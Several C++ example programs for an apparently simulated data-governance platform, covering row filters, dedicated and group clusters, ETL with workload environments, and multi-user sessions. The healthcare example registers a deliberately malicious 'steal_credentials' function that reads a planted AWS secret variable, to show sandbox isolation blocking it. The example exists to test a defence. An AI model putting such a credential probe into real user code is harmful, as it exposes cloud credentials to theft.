  CHECK_VALUE(rf, admin.Sql(
      "ALTER TABLE main.fin.sales SET ROW FILTER "
      "(region = 'US' OR IS_ACCOUNT_GROUP_MEMBER('global_finance'))"));
  CHECK_VALUE(g1, admin.Sql("GRANT USE CATALOG ON main TO eve"));
  CHECK_VALUE(g2, admin.Sql("GRANT USE SCHEMA ON main.fin TO eve"));
  CHECK_VALUE(g3, admin.Sql("GRANT SELECT ON main.fin.sales TO eve"));

  // ---- Eve works on her Dedicated (privileged, GPU) cluster -------------------
  ClusterHandle* dedicated =
      platform.CreateDedicatedCluster("eve", /*is_group=*/false);
  CHECK_VALUE(context, platform.DirectContext(dedicated, "eve"));

  const char* kQuery =
      "SELECT amount, order_date, seller FROM main.fin.sales "
      "WHERE order_date = '2024-12-01'";
  CHECK_VALUE(stmt, ParseSql(kQuery));
  const PlanPtr& source = std::get<SelectStatement>(stmt).plan;

  CHECK_VALUE(exec, dedicated->engine->ExecutePlanExplained(source, context));

  std::cout << "== source query plan (client-side, unresolved) ==\n"
            << exec.source->ToTreeString();
  std::cout << "\n== rewritten plan on the Dedicated cluster ==\n"
            << "(no row-filter predicate anywhere: the privileged cluster\n"
            << " only knows the relation cannot be processed locally)\n"
            << exec.rewritten->ToTreeString();
  std::cout << "\n== final optimized plan ==\n"
            << exec.optimized->ToTreeString();
  std::cout << "\n== result (row filter enforced remotely) ==\n"
            << exec.result.ToString();

  // For contrast: the same query resolved on a Standard cluster shows the
  // SecureView with the injected policy filter (Fig. 8 middle tree).
  CHECK_VALUE(std_context, platform.DirectContext(setup, "eve"));
  CHECK_VALUE(std_exec,
              setup->engine->ExecutePlanExplained(source, std_context));
  std::cout << "\n== same query on a Standard cluster (local enforcement) ==\n"
            << std_exec.resolved->ToTreeString();

  const EfgacStats& stats = platform.serverless_backend().stats();
  std::cout << "\nserverless endpoint: " << stats.execute_calls
            << " execute calls, " << stats.inline_results
            << " inline results, " << stats.spilled_results << " spilled\n";
  const EfgacRewriteStats& rw = platform.efgac_rewriter().stats();
  std::cout << "rewriter: " << rw.relations_externalized
            << " relations externalized, " << rw.filters_pushed
            << " filters and " << rw.projects_pushed
            << " projects pushed into the remote scan\n";

  std::cout << "\nefgac_dedicated finished OK\n";
  return 0;
}
