// The paper's motivating healthcare example (Fig. 1, 3, 4, 6):
//  * raw_data_table holds PII next to binary sensor payloads;
//  * a dedicated sensor_view hides PII from the data-science team;
//  * a cataloged UDF extracts features from the binary payloads — running
//    in a sandbox, never inside the engine;
//  * a second UDF calls an external air-quality service, allowed by an
//    admin-configured egress policy (Fig. 6);
//  * malicious UDFs try to steal credentials/files — blocked by the
//    sandbox, demonstrated working in the legacy unisolated engine.
//
// Run: build/examples/healthcare_pipeline

#include <iostream>

#include "core/platform.h"
#include "udf/builder.h"

using namespace lakeguard;  // NOLINT — example brevity

#define CHECK_OK(expr)                                                       \
  do {                                                                       \
    auto _s = (expr);                                                        \
    if (!_s.ok()) {                                                          \
      std::cerr << "FATAL at " << __LINE__ << ": " << _s.ToString() << "\n"; \
      return 1;                                                              \
    }                                                                        \
  } while (false)

#define CHECK_VALUE(var, expr)                                     \
  auto var##_result = (expr);                                      \
  if (!var##_result.ok()) {                                        \
    std::cerr << "FATAL at " << __LINE__ << ": "                   \
              << var##_result.status().ToString() << "\n";         \
    return 1;                                                      \
  }                                                                \
  [[maybe_unused]] auto& var = *var##_result

int main() {
  LakeguardPlatform platform;

  CHECK_OK(platform.AddUser("admin"));
  CHECK_OK(platform.AddUser("dana"));  // data scientist
  CHECK_OK(platform.AddGroup("data_scientists"));
  CHECK_OK(platform.AddUserToGroup("dana", "data_scientists"));
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok-admin", "admin");
  platform.RegisterToken("tok-dana", "dana");

  UnityCatalog& catalog = platform.catalog();
  CHECK_OK(catalog.CreateCatalog("admin", "main"));
  CHECK_OK(catalog.CreateSchema("admin", "main.clinical"));

  ClusterHandle* cluster = platform.CreateStandardCluster();
  CHECK_VALUE(admin, platform.Connect(cluster, "tok-admin"));

  // The machine holds real secrets (instance credentials) — the asset §2.4
  // says user code must never reach.
  SimulatedHostEnvironment& host = cluster->cluster->driver_host().env();
  host.SetEnv("AWS_SECRET_ACCESS_KEY", "AKIA-SUPER-SECRET");
  host.WriteFile("/etc/instance-credentials", "root-credential-material");
  host.RegisterHttpHandler("http://air.example.com/zip/",
                           [](const std::string&) { return "42.5"; });

  // ---- Raw table with PII --------------------------------------------------
  CHECK_VALUE(t, admin.Sql(
      "CREATE TABLE main.clinical.raw_data_table ("
      "  patient_name STRING, patient_ssn STRING, zip STRING,"
      "  sensor BINARY, ts STRING)"));
  CHECK_VALUE(ins, admin.Sql(
      "INSERT INTO main.clinical.raw_data_table VALUES "
      "('Ada Health', '111-22-3333', '94105', 'wave:0110101101', 't1'), "
      "('Bo Patient', '444-55-6666', '10001', 'wave:10', 't2'), "
      "('Cy Subject', '777-88-9999', '60601', 'wave:110011001100110011', "
      "'t3')"));

  // ---- PII-free dynamic view for the DS team (Fig. 1's sensor_view) --------
  CHECK_VALUE(v, admin.Sql(
      "CREATE VIEW main.clinical.sensor_view AS "
      "SELECT zip, sensor, ts FROM main.clinical.raw_data_table"));
  CHECK_VALUE(g1, admin.Sql("GRANT USE CATALOG ON main TO data_scientists"));
  CHECK_VALUE(g2,
              admin.Sql("GRANT USE SCHEMA ON main.clinical TO data_scientists"));
  CHECK_VALUE(g3, admin.Sql(
      "GRANT SELECT ON main.clinical.sensor_view TO data_scientists"));
  // NOTE: no grant on raw_data_table — the view is definer's-rights.

  // ---- Cataloged UDFs (user code as governed assets, §3.3) ------------------
  FunctionInfo feature_fn;
  feature_fn.full_name = "main.clinical.extract_feature";
  feature_fn.return_type = TypeKind::kFloat64;
  feature_fn.num_args = 1;
  feature_fn.body = canned::SensorFeatureUdf(/*scale=*/0.5, /*offset=*/1.0);
  CHECK_OK(catalog.CreateFunction("admin", feature_fn));

  FunctionInfo air_fn;
  air_fn.full_name = "main.clinical.air_quality";
  air_fn.return_type = TypeKind::kFloat64;
  air_fn.num_args = 1;
  air_fn.body = canned::AirQualityUdf("air.example.com");
  air_fn.allowed_egress = {"air.example.com"};  // admin-approved egress
  CHECK_OK(catalog.CreateFunction("admin", air_fn));

  FunctionInfo steal_fn;
  steal_fn.full_name = "main.clinical.steal_credentials";
  steal_fn.return_type = TypeKind::kString;
  steal_fn.num_args = 0;
  steal_fn.body = canned::EnvProbeUdf("AWS_SECRET_ACCESS_KEY");
  CHECK_OK(catalog.CreateFunction("admin", steal_fn));

  for (const char* fn :
       {"main.clinical.extract_feature", "main.clinical.air_quality",
        "main.clinical.steal_credentials"}) {
    CHECK_OK(catalog.Grant("admin", fn, Privilege::kExecute,
                           "data_scientists"));
  }

  // ---- Dana's feature-extraction pipeline -----------------------------------
  CHECK_VALUE(dana, platform.Connect(cluster, "tok-dana"));
  CHECK_VALUE(features, dana.Sql(
      "SELECT zip, main.clinical.extract_feature(sensor) AS feature, "
      "       main.clinical.air_quality(zip) AS aqi "
      "FROM main.clinical.sensor_view ORDER BY zip"));
  std::cout << "dana's sandboxed feature pipeline:\n" << features.ToString();

  // Dana cannot touch the raw table directly (no grant):
  auto denied = dana.Sql("SELECT patient_ssn FROM main.clinical.raw_data_table");
  std::cout << "\ndirect PII access: "
            << (denied.ok() ? "!!! LEAKED !!!" : denied.status().message())
            << "\n";

  // ---- The sandbox stops credential theft ------------------------------------
  auto stolen = dana.Sql("SELECT main.clinical.steal_credentials() AS loot "
                         "FROM main.clinical.sensor_view LIMIT 1");
  std::cout << "\nsandboxed credential theft: "
            << (stolen.ok() ? "!!! " + stolen->ToString() + " !!!"
                            : std::string("BLOCKED (") +
                                  stolen.status().message() + ")")
            << "\n";

  // ---- The same attack in the legacy engine (user code in the JVM) -----------
  LakeguardPlatform::Options legacy_options;
  legacy_options.engine_config.exec.isolate_udfs = false;
  LakeguardPlatform legacy(legacy_options);
  CHECK_OK(legacy.AddUser("admin"));
  CHECK_OK(legacy.AddUser("mallory"));
  legacy.AddMetastoreAdmin("admin");
  legacy.RegisterToken("tok-admin", "admin");
  legacy.RegisterToken("tok-mallory", "mallory");
  CHECK_OK(legacy.catalog().CreateCatalog("admin", "main"));
  CHECK_OK(legacy.catalog().CreateSchema("admin", "main.clinical"));
  ClusterHandle* legacy_cluster = legacy.CreateStandardCluster();
  legacy_cluster->cluster->driver_host().env().SetEnv(
      "AWS_SECRET_ACCESS_KEY", "AKIA-SUPER-SECRET");
  CHECK_VALUE(legacy_admin, legacy.Connect(legacy_cluster, "tok-admin"));
  CHECK_VALUE(lt, legacy_admin.Sql(
      "CREATE TABLE main.clinical.dummy (x BIGINT)"));
  CHECK_VALUE(li, legacy_admin.Sql(
      "INSERT INTO main.clinical.dummy VALUES (1)"));
  FunctionInfo legacy_steal = steal_fn;
  CHECK_OK(legacy.catalog().CreateFunction("admin", legacy_steal));
  CHECK_OK(legacy.catalog().Grant("admin", steal_fn.full_name,
                                  Privilege::kExecute, "mallory"));
  CHECK_OK(legacy.catalog().Grant("admin", "main",
                                  Privilege::kUseCatalog, "mallory"));
  CHECK_OK(legacy.catalog().Grant("admin", "main.clinical",
                                  Privilege::kUseSchema, "mallory"));
  CHECK_OK(legacy.catalog().Grant("admin", "main.clinical.dummy",
                                  Privilege::kSelect, "mallory"));
  CHECK_VALUE(mallory, legacy.Connect(legacy_cluster, "tok-mallory"));
  CHECK_VALUE(loot, mallory.Sql(
      "SELECT main.clinical.steal_credentials() AS loot "
      "FROM main.clinical.dummy"));
  std::cout << "\nunisolated legacy engine, same UDF:\n" << loot.ToString();

  // ---- Egress control: only the approved host is reachable --------------------
  std::cout << "\negress attempts recorded on the Lakeguard cluster: ";
  size_t allowed = 0, blocked = 0;
  for (const EgressRecord& r : host.egress_log()) {
    r.allowed ? ++allowed : ++blocked;
  }
  std::cout << allowed << " allowed / " << blocked << " blocked\n";

  std::cout << "\nhealthcare pipeline finished OK\n";
  return 0;
}
