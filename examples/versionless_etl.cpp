// Versionless Spark workloads (§6.3) + the hourly ETL pipeline of the
// motivating example (§2.1):
//  * an "old" client speaking an earlier protocol revision (fields missing,
//    unknown future fields present) keeps working against today's server;
//  * workload environments pin the dependency set a job relies on;
//  * the ETL itself is INSERT INTO ... SELECT through the governed pipeline,
//    so the derived table contains only rows the pipeline identity may read.
//
// Run: build/examples/versionless_etl

#include <iostream>

#include "columnar/ipc.h"
#include "core/platform.h"

using namespace lakeguard;  // NOLINT — example brevity

#define CHECK_OK(expr)                                                       \
  do {                                                                       \
    auto _s = (expr);                                                        \
    if (!_s.ok()) {                                                          \
      std::cerr << "FATAL at " << __LINE__ << ": " << _s.ToString() << "\n"; \
      return 1;                                                              \
    }                                                                        \
  } while (false)

#define CHECK_VALUE(var, expr)                                     \
  auto var##_result = (expr);                                      \
  if (!var##_result.ok()) {                                        \
    std::cerr << "FATAL at " << __LINE__ << ": "                   \
              << var##_result.status().ToString() << "\n";         \
    return 1;                                                      \
  }                                                                \
  [[maybe_unused]] auto& var = *var##_result

int main() {
  LakeguardPlatform platform;
  CHECK_OK(platform.AddUser("admin"));
  CHECK_OK(platform.AddUser("etl_bot"));  // the pipeline's service identity
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok-admin", "admin");
  platform.RegisterToken("tok-etl", "etl_bot");

  UnityCatalog& catalog = platform.catalog();
  CHECK_OK(catalog.CreateCatalog("admin", "main"));
  CHECK_OK(catalog.CreateSchema("admin", "main.ingest"));

  ClusterHandle* cluster = platform.CreateStandardCluster();
  CHECK_VALUE(admin, platform.Connect(cluster, "tok-admin"));
  CHECK_VALUE(t1, admin.Sql(
      "CREATE TABLE main.ingest.raw_events ("
      "  region STRING, kind STRING, value BIGINT)"));
  CHECK_VALUE(t2, admin.Sql(
      "CREATE TABLE main.ingest.curated ("
      "  region STRING, kind STRING, value BIGINT)"));
  CHECK_VALUE(i, admin.Sql(
      "INSERT INTO main.ingest.raw_events VALUES "
      "('US', 'click', 3), ('US', 'error', 1), ('EU', 'click', 7), "
      "('EU', 'debug', 0), ('APAC', 'click', 5)"));
  // The pipeline identity only sees non-debug events.
  CHECK_VALUE(rf, admin.Sql(
      "ALTER TABLE main.ingest.raw_events SET ROW FILTER "
      "(kind <> 'debug' OR CURRENT_USER() = 'admin')"));
  CHECK_VALUE(g1, admin.Sql("GRANT USE CATALOG ON main TO etl_bot"));
  CHECK_VALUE(g2, admin.Sql("GRANT USE SCHEMA ON main.ingest TO etl_bot"));
  CHECK_VALUE(g3, admin.Sql("GRANT SELECT ON main.ingest.raw_events TO etl_bot"));
  CHECK_VALUE(g4, admin.Sql("GRANT SELECT ON main.ingest.curated TO etl_bot"));
  CHECK_VALUE(g5, admin.Sql("GRANT MODIFY ON main.ingest.curated TO etl_bot"));

  // ---- Workload environments (§6.3): the job pins version "1" -----------------
  WorkloadEnvironment v1;
  v1.version = "1";
  v1.client_version = "connect-3.4";
  v1.interpreter = "lgvm-1";
  v1.dependencies = {{"featlib", "0.9"}, {"jsonish", "2.1"}};
  CHECK_OK(platform.workload_environments().Publish(v1));
  WorkloadEnvironment v2 = v1;
  v2.version = "2";
  v2.client_version = "connect-4.0";
  v2.dependencies["featlib"] = "1.4";
  CHECK_OK(platform.workload_environments().Publish(v2));
  CHECK_VALUE(pinned, platform.workload_environments().Get("1"));
  std::cout << "etl job pinned to workload environment " << pinned.version
            << " (client " << pinned.client_version << ", featlib "
            << pinned.dependencies.at("featlib")
            << ") while the platform's latest is "
            << platform.workload_environments().Latest()->version << "\n";

  // ---- The hourly ETL: INSERT ... SELECT through the governed pipeline --------
  CHECK_VALUE(etl, platform.Connect(cluster, "tok-etl"));
  CHECK_VALUE(copied, etl.Sql(
      "INSERT INTO main.ingest.curated "
      "SELECT region, kind, value FROM main.ingest.raw_events"));
  std::cout << "\n" << copied.ToString();
  CHECK_VALUE(curated, etl.Sql(
      "SELECT kind, COUNT(*) AS n FROM main.ingest.curated "
      "GROUP BY kind ORDER BY kind"));
  std::cout << "curated table (no debug rows — the pipeline could not see "
               "them):\n"
            << curated.ToString();

  // ---- Versionless protocol: an OLD client revision still works ----------------
  // Simulate a years-old client: it omits the version field entirely and a
  // years-NEWER client: it appends unknown fields. Both requests decode and
  // execute on today's server (tagged encoding, §6.3).
  {
    ByteWriter old_request;
    old_request.PutTaggedString(2, etl.session_id());  // session only
    old_request.PutTaggedString(5, "SELECT COUNT(*) AS n FROM "
                                   "main.ingest.curated");
    auto response_bytes = cluster->service->HandleRpc(old_request.Release());
    CHECK_VALUE(response, DecodeResponse(response_bytes));
    std::cout << "\nold client (no version field): "
              << (response.ok ? "served OK" : response.error_message) << "\n";

    ConnectRequest future;
    future.session_id = etl.session_id();
    future.sql = "SELECT COUNT(*) AS n FROM main.ingest.curated";
    ByteWriter future_bytes;
    auto encoded = EncodeRequest(future);
    future_bytes.PutRaw(encoded.data(), encoded.size());
    future_bytes.PutTaggedString(77, "field from the year 2031");
    auto future_response_bytes =
        cluster->service->HandleRpc(future_bytes.Release());
    CHECK_VALUE(future_response, DecodeResponse(future_response_bytes));
    std::cout << "future client (unknown fields): "
              << (future_response.ok ? "served OK"
                                     : future_response.error_message)
              << "\n";
  }

  std::cout << "\nversionless_etl finished OK\n";
  return 0;
}
