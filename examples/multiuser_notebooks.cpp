// Multi-user interactive compute (§2.5, §4.1): several users share ONE
// Standard cluster; each session carries its own identity, its own
// sandboxes and its own dynamic-view results. Also demonstrates dedicated
// *group* clusters with permission down-scoping (§4.2) and the serverless
// gateway with session migration (§6.2).
//
// Run: build/examples/multiuser_notebooks

#include <iostream>

#include "core/platform.h"

using namespace lakeguard;  // NOLINT — example brevity

#define CHECK_OK(expr)                                                       \
  do {                                                                       \
    auto _s = (expr);                                                        \
    if (!_s.ok()) {                                                          \
      std::cerr << "FATAL at " << __LINE__ << ": " << _s.ToString() << "\n"; \
      return 1;                                                              \
    }                                                                        \
  } while (false)

#define CHECK_VALUE(var, expr)                                     \
  auto var##_result = (expr);                                      \
  if (!var##_result.ok()) {                                        \
    std::cerr << "FATAL at " << __LINE__ << ": "                   \
              << var##_result.status().ToString() << "\n";         \
    return 1;                                                      \
  }                                                                \
  [[maybe_unused]] auto& var = *var##_result

int main() {
  LakeguardPlatform platform;
  for (const char* u : {"admin", "uma", "vic", "wen"}) {
    CHECK_OK(platform.AddUser(u));
  }
  CHECK_OK(platform.AddGroup("ml_team"));
  CHECK_OK(platform.AddUserToGroup("uma", "ml_team"));
  CHECK_OK(platform.AddUserToGroup("vic", "ml_team"));
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok-admin", "admin");
  platform.RegisterToken("tok-uma", "uma");
  platform.RegisterToken("tok-vic", "vic");
  platform.RegisterToken("tok-wen", "wen");

  UnityCatalog& catalog = platform.catalog();
  CHECK_OK(catalog.CreateCatalog("admin", "main"));
  CHECK_OK(catalog.CreateSchema("admin", "main.lab"));

  ClusterHandle* shared = platform.CreateStandardCluster();
  CHECK_VALUE(admin, platform.Connect(shared, "tok-admin"));
  CHECK_VALUE(t, admin.Sql(
      "CREATE TABLE main.lab.experiments (owner STRING, metric DOUBLE)"));
  CHECK_VALUE(i, admin.Sql(
      "INSERT INTO main.lab.experiments VALUES "
      "('uma', 0.91), ('uma', 0.93), ('vic', 0.77), ('wen', 0.99)"));
  // Dynamic per-user row filter: everyone sees only their own experiments.
  CHECK_VALUE(rf, admin.Sql(
      "ALTER TABLE main.lab.experiments SET ROW FILTER "
      "(owner = CURRENT_USER())"));
  for (const char* u : {"uma", "vic", "wen"}) {
    CHECK_OK(catalog.Grant("admin", "main", Privilege::kUseCatalog, u));
    CHECK_OK(catalog.Grant("admin", "main.lab", Privilege::kUseSchema, u));
    CHECK_OK(catalog.Grant("admin", "main.lab.experiments",
                           Privilege::kSelect, u));
  }

  // ---- Three notebooks, one cluster, three identities -------------------------
  std::cout << "one shared Standard cluster, per-user dynamic views:\n";
  for (const char* u : {"uma", "vic", "wen"}) {
    CHECK_VALUE(client,
                platform.Connect(shared, std::string("tok-") + u));
    CHECK_VALUE(rows, client.Sql(
        "SELECT owner, metric FROM main.lab.experiments ORDER BY metric"));
    std::cout << "  " << u << " -> " << rows.num_rows() << " rows\n";
    CHECK_OK(client.Close());
  }
  std::cout << "sessions open after closes: "
            << shared->service->ActiveSessionCount() << "\n";

  // ---- Dedicated group cluster: permissions down-scope to the group -----------
  // Grant SELECT to the group only; uma individually holds broader rights,
  // but on the group cluster her effective permissions are the group's.
  CHECK_OK(catalog.Grant("admin", "main", Privilege::kUseCatalog, "ml_team"));
  CHECK_OK(catalog.Grant("admin", "main.lab", Privilege::kUseSchema,
                         "ml_team"));
  CHECK_OK(catalog.Grant("admin", "main.lab.experiments", Privilege::kSelect,
                         "ml_team"));
  CHECK_VALUE(secret_t, admin.Sql(
      "CREATE TABLE main.lab.admin_only (x BIGINT)"));
  CHECK_OK(catalog.Grant("admin", "main.lab.admin_only", Privilege::kSelect,
                         "uma"));  // uma personally, NOT the group

  ClusterHandle* group_cluster =
      platform.CreateDedicatedCluster("ml_team", /*is_group=*/true);
  CHECK_VALUE(uma_ctx, platform.DirectContext(group_cluster, "uma"));
  auto downscoped =
      group_cluster->engine->ExecuteSql("SELECT x FROM main.lab.admin_only",
                                        uma_ctx);
  std::cout << "\numa on the ml_team group cluster reading her personal "
               "table: "
            << (downscoped.ok() ? "!!! allowed !!!"
                                : "denied (down-scoped to group permissions)")
            << "\n";
  // wen is not in ml_team: cannot even attach.
  auto wen_attach = group_cluster->cluster->AttachUser("wen");
  std::cout << "wen attaching to the ml_team cluster: "
            << (wen_attach.ok() ? "!!! allowed !!!" : "denied") << "\n";

  // ---- Serverless gateway: sessions route, scale, migrate ---------------------
  SparkConnectGateway& gateway = platform.gateway();
  CHECK_VALUE(x1, gateway.OpenSession("tok-uma"));
  CHECK_VALUE(x2, gateway.OpenSession("tok-vic"));
  CHECK_VALUE(r1, gateway.ExecuteSql(
      x1, "SELECT COUNT(metric) AS n FROM main.lab.experiments"));
  std::cout << "\ngateway session " << x1 << " result:\n" << r1.ToString();
  CHECK_OK(gateway.MigrateSession(x1));
  CHECK_VALUE(r2, gateway.ExecuteSql(
      x1, "SELECT COUNT(metric) AS n FROM main.lab.experiments"));
  std::cout << "after seamless migration, same external session id works:\n"
            << r2.ToString();
  GatewayStats gs = gateway.stats();
  std::cout << "gateway: " << gs.sessions_opened << " sessions, "
            << gs.backends_provisioned << " backends provisioned, "
            << gs.migrations << " migrations\n";

  std::cout << "\nmultiuser_notebooks finished OK\n";
  return 0;
}
